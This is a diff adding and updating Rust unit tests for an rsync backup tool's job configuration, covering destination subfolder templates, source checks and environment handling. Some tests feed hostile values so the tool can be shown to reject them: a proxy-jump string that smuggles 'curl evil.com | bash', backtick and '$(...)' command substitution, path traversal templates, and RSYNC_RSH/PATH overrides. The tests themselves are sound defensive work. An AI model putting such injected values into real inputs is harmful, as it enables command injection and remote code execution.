+    fn test_target_base_uses_dest_subfolder_template() {
+        let mut job = create_test_job(SyncMode::TimeMachine);
+        job.source_path = "/Users/demo/Documents".to_string();
+        assert_eq!(target_base(&job).unwrap(), Path::new("/dest/Documents"));
+
+        // Two "Documents" sources from different hosts no longer collide
+        job.source_path = "me@nas:/home/me/Documents".to_string();
+        job.dest_subfolder = Some("{host}/{source_basename}".to_string());
+        assert_eq!(target_base(&job).unwrap(), Path::new("/dest/nas/Documents"));
+
+        job.source_path = "me@laptop:/Users/me/Documents".to_string();
+        assert_eq!(
+            target_base(&job).unwrap(),
+            Path::new("/dest/laptop/Documents")
+        );
+
+        job.dest_subfolder = Some("work-docs".to_string());
+        assert_eq!(target_base(&job).unwrap(), Path::new("/dest/work-docs"));
+    }
+
+    #[test]
+    fn test_dest_subfolder_rejects_path_traversal() {
+        let mut job = create_test_job(SyncMode::TimeMachine);
+        for template in [
+            "../{source_basename}",
+            "{source_basename}/../..",
+            "/etc/{source_basename}",
+            "",
+            "{hostname}",
+        ] {
+            job.dest_subfolder = Some(template.to_string());
+            assert!(target_base(&job).is_err(), "{:?} accepted", template);
+        }
+
+        // A hostile remote host can't climb out either
+        job.source_path = "..:/srv/data".to_string();
+        job.dest_subfolder = Some("{host}".to_string());
+        assert!(target_base(&job).is_err());
+    }
+
     #[test]
     fn test_ssh_invalid_custom_options_rejected() {
         // Invalid options with shell metacharacters should be silently rejected (logged error)
@@ -947,6 +2326,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: None,
             custom_ssh_options: Some("$(malicious)".to_string()), // Invalid - command substitution
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -982,6 +2364,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: None,
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -1016,6 +2401,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: None,
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -1049,6 +2437,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: None,
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -1084,6 +2475,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: None,
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -1117,6 +2511,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: None,
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -1150,6 +2547,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: None,
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -1281,6 +2681,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: Some("user@host; curl evil.com | bash".to_string()),
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -1322,6 +2725,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: None,
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -1357,6 +2763,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: Some("user@host`id`".to_string()),
             custom_ssh_options: Some("${PATH}".to_string()),
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -1392,4 +2801,91 @@ mod tests {
             ssh_cmd
         );
     }
+
+    #[test]
+    fn test_check_source_ready_populated_and_ssh() {
+        let temp = tempfile::TempDir::new().unwrap();
+        std::fs::write(temp.path().join("file.txt"), "data").unwrap();
+        check_source_ready(temp.path().to_str().unwrap()).unwrap();
+        check_source_ready(temp.path().join("file.txt").to_str().unwrap()).unwrap();
+
+        // Remote sources are never touched locally
+        check_source_ready("user@host:/does/not/exist").unwrap();
+    }
+
+    #[test]
+    fn test_check_source_ready_rejects_empty_source() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let err = check_source_ready(temp.path().to_str().unwrap()).unwrap_err();
+        assert!(matches!(err, AmberError::EmptySource(_)), "{:?}", err);
+
+        let missing = temp.path().join("missing");
+        let err = check_source_ready(missing.to_str().unwrap()).unwrap_err();
+        assert!(matches!(err, AmberError::UnreadableSource(_)), "{:?}", err);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_check_source_ready_rejects_unreadable_source() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let temp = tempfile::TempDir::new().unwrap();
+        let locked = temp.path().join("locked");
+        std::fs::create_dir(&locked).unwrap();
+        std::fs::write(locked.join("secret.txt"), "data").unwrap();
+        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
+
+        // Root ignores permission bits, so there is nothing to test there
+        let bypassed = std::fs::read_dir(&locked).is_ok();
+        let result = check_source_ready(locked.to_str().unwrap());
+        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).unwrap();
+        if bypassed {
+            return;
+        }
+
+        let err = result.unwrap_err();
+        assert!(matches!(err, AmberError::UnreadableSource(_)), "{:?}", err);
+    }
+
+    #[test]
+    fn test_job_env_applied_to_rsync_process() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        job.env = HashMap::from([
+            ("LC_ALL".to_string(), "en_US.UTF-8".to_string()),
+            (
+                "RSYNC_PARTIAL_DIR".to_string(),
+                ".rsync-partial".to_string(),
+            ),
+        ]);
+        let command = service.build_command(&job, "/dest", None).unwrap();
+
+        let process = service.build_process(&job, &command).unwrap();
+        let envs: HashMap<_, _> = process
+            .get_envs()
+            .map(|(k, v)| {
+                (
+                    k.to_string_lossy().to_string(),
+                    v.map(|v| v.to_string_lossy().to_string()),
+                )
+            })
+            .collect();
+        assert_eq!(envs["LC_ALL"].as_deref(), Some("en_US.UTF-8"));
+        assert_eq!(envs["RSYNC_PARTIAL_DIR"].as_deref(), Some(".rsync-partial"));
+    }
+
+    #[test]
+    fn test_job_env_rejects_rsync_rsh_and_path() {
+        let service = RsyncService::new();
+        for name in ["RSYNC_RSH", "PATH"] {
+            let mut job = create_test_job(SyncMode::Mirror);
+            job.env = HashMap::from([(name.to_string(), "/tmp/evil".to_string())]);
+            let command = service.build_command(&job, "/dest", None).unwrap();
+            assert!(
+                service.build_process(&job, &command).is_err(),
+                "{} should be rejected",
+                name
+            );
+        }
+    }
 }